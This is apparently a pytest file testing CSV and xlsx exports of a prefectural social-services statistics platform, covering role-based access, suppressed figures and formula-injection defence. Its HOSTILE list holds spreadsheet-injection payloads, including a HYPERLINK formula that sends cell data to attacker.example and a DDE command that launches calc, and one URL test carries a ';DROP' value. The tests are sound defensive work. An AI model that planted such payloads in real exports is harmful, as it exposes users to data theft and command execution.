"""Exports of the prefecture view (issue 16, item 7): every table as CSV (UTF-8 with a BOM)
and xlsx, authorised like the GraphQL query it runs, and no cell a spreadsheet would run as
a formula, checked by opening the files: xlsx with openpyxl, CSV with the csv module."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import httpx
import openpyxl
import pytest
from openpyxl.cell.cell import Cell

from kizuna.platform.vocabulary import AppRole
from kizuna.schema.pages.spreadsheets import Sheet, to_csv, to_xlsx
from kizuna.tests.test_indicators import ADD, NEW, keeps_seeded_indicators  # noqa: F401  (a fixture)
from kizuna.tests.test_stats_read_path import KAWAGOE, QUERY, SAITAMA_CITY, SAITAMA_PREFECTURE, figures  # noqa: F401

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def open_xlsx(content: bytes) -> list[list[Cell]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [[cell for cell in row if isinstance(cell, Cell)] for row in workbook.worksheets[0].iter_rows()]


def open_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def runs_as_formula(text: str) -> bool:
    """What a spreadsheet takes for a formula when it opens a CSV cell."""
    return text.lstrip("\t\r").startswith(("=", "+", "-", "@"))


class TestNoCellRunsAsAFormula:
    sheet = Sheet("=表", ["名前", "値"], [[text, 1] for text in HOSTILE])

    def test_xlsx_keeps_each_text_exactly_as_text(self) -> None:
        rows = open_xlsx(to_xlsx(self.sheet))
        cells = [row[0] for row in rows[1:]]
        assert [c.value for c in cells] == [text.replace("\r", "\n") for text in HOSTILE]  # XML has no bare CR
        assert {c.data_type for row in rows for c in row} <= {"s", "n"}  # no "f", a formula
        assert all(c.quotePrefix for c in cells)  # still text when someone edits it
        assert [row[1].value for row in rows[1:]] == [1] * len(HOSTILE)  # numbers stay numbers

    def test_csv_puts_an_apostrophe_before_each_and_keeps_numbers(self) -> None:
        rows = open_csv(to_csv(self.sheet))
        assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
        assert not any(runs_as_formula(cell) for row in rows for cell in row)
        assert [row[1] for row in rows[1:]] == ["1"] * len(HOSTILE)

    def test_an_ordinary_text_is_left_alone(self) -> None:
        sheet = Sheet("表", ["市町村名"], [["さいたま市"], ["'引用"], ["1-2"]])
        assert open_csv(to_csv(sheet))[1:] == [["さいたま市"], ["'引用"], ["1-2"]]
        assert [row[0].value for row in open_xlsx(to_xlsx(sheet))[1:]] == ["さいたま市", "'引用", "1-2"]


def get(http: httpx.Client, token: Callable[..., str], path: str, role: AppRole, municipality: str) -> httpx.Response:
    return http.get(path, headers={"authorization": f"Bearer {token(role, municipality)}"})


@pytest.mark.usefixtures("figures")
class TestStatsTables:
    def test_the_analyst_gets_the_graphql_answer_as_csv_and_xlsx(
        self, http: httpx.Client, token: Callable[..., str], graphql: Callable[..., dict[str, Any]]
    ) -> None:
        answer = graphql(
            QUERY, AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE, {"figures": ["CASES_BY_CATEGORY"], "years": [2024]}
        )
        table = answer["data"]["prefectureStats"]["tables"][0]
        path = "/exports/stats/cases_by_category.{}?fiscalYear=2024"
        as_csv = get(http, token, path.format("csv"), AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE)
        as_xlsx = get(http, token, path.format("xlsx"), AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE)
        assert as_csv.status_code == as_xlsx.status_code == 200
        assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
        assert as_csv.headers["cache-control"] == "no-store"
        assert as_csv.headers["content-disposition"] == 'attachment; filename="kizuna-cases_by_category.csv"'
        rows = open_csv(as_csv.content)
        assert rows[0] == [
            "年度",
            "年度（和暦）",
            "市町村コード",
            "市町村名",
            *(c["label"] for c in table["columns"]),
            "合計",
        ]
        by_code = {row[2]: row for row in rows[1:]}
        assert len(by_code) == len(table["rows"])  # every municipality and the total, nothing else
        young_carer = [c["category"] for c in table["columns"]].index("young_carer")
        assert by_code[SAITAMA_CITY][:4] == ["2024", "令和6年度", SAITAMA_CITY, "さいたま市"]
        assert by_code[SAITAMA_CITY][4 + young_carer] == "12"
        assert by_code[KAWAGOE][4 + young_carer] == "秘匿"  # suppressed: never a number, never 0
        assert by_code[""][3] == "合計"
        xlsx = {row[2].value: [c.value for c in row] for row in open_xlsx(as_xlsx.content)[1:]}
        assert xlsx[SAITAMA_CITY][4 + young_carer] == 12
        assert xlsx[KAWAGOE][4 + young_carer] == "秘匿"
        assert set(xlsx) == {code or None for code in by_code}

    def test_the_supervisor_gets_its_own_municipality_only(self, http: httpx.Client, token: Callable[..., str]) -> None:
        response = get(http, token, "/exports/stats/cases_by_category.csv", AppRole.SUPERVISOR, SAITAMA_CITY)
        assert response.status_code == 200
        assert [row[2] for row in open_csv(response.content)[1:]] == [SAITAMA_CITY]

    @pytest.mark.parametrize("role", [AppRole.CASEWORKER, AppRole.SCHOOL_STAFF, AppRole.PLATFORM_ADMIN])
    def test_every_other_role_is_refused_as_graphql_refuses_it(
        self, http: httpx.Client, token: Callable[..., str], role: AppRole
    ) -> None:
        home = SAITAMA_PREFECTURE if role is AppRole.PLATFORM_ADMIN else SAITAMA_CITY
        response = get(http, token, "/exports/stats/cases_by_category.xlsx", role, home)
        assert response.status_code == 403
        assert response.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
        assert "content-disposition" not in response.headers

    def test_without_credentials_nothing(self, http: httpx.Client) -> None:
        response = http.get("/exports/stats/cases_by_category.csv")
        assert response.status_code == 401
        assert response.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"

    @pytest.mark.parametrize(
        ("path", "status"),
        [
            ("/exports/stats/people.csv", 404),
            ("/exports/stats/cases_by_category.xls", 404),
            ("/exports/stats/cases_by_category.csv?fiscalYear=2024;DROP", 400),
            ("/exports/stats/cases_by_category.csv?fiscalYear=２０２４", 400),
        ],
    )
    def test_a_wrong_address_is_refused_before_anything_runs(
        self, http: httpx.Client, token: Callable[..., str], path: str, status: int
    ) -> None:
        response = get(http, token, path, AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE)
        assert response.status_code == status
        assert "content-disposition" not in response.headers

    def test_the_medians_are_a_table_too(self, http: httpx.Client, token: Callable[..., str]) -> None:
        response = get(http, token, "/exports/medians.xlsx", AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE)
        rows = {row[2].value: row[4].value for row in open_xlsx(response.content)[1:]}
        assert rows[SAITAMA_CITY] == 21.5
        assert rows[KAWAGOE] == "非表示"


@pytest.mark.usefixtures("keeps_seeded_indicators")
def test_an_indicator_named_like_a_formula_stays_text(
    http: httpx.Client, token: Callable[..., str], graphql: Callable[..., dict[str, Any]]
) -> None:
    name = HOSTILE[0]
    added = graphql(ADD, AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE, {"input": NEW | {"name": name}})
    assert added["data"]["addIndicator"]["userErrors"] == []
    as_xlsx = get(http, token, "/exports/indicators.xlsx", AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE)
    as_csv = get(http, token, "/exports/indicators.csv", AppRole.PREFECTURE_ANALYST, SAITAMA_PREFECTURE)
    cell = next(row[1] for row in open_xlsx(as_xlsx.content) if row[0].value == NEW["key"])
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    row = next(row for row in open_csv(as_csv.content) if row[0] == NEW["key"])
    assert row[1] == "'" + name
    assert len(open_csv(as_csv.content)) == 1 + 8  # the header, the seven seeded, the new one
